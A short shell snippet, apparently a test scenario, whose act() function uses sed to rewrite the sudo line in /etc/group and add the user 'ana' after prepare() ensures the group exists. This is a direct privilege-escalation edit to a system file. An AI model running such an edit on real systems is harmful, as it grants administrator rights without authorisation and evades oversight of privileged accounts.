# A shell rewrites the line of a powerful group.
prepare() { grep -q '^sudo:' /etc/group || echo 'sudo:x:27:' >>/etc/group; }
act() { sed -i 's/^sudo:.*/sudo:x:27:ana/' /etc/group; }
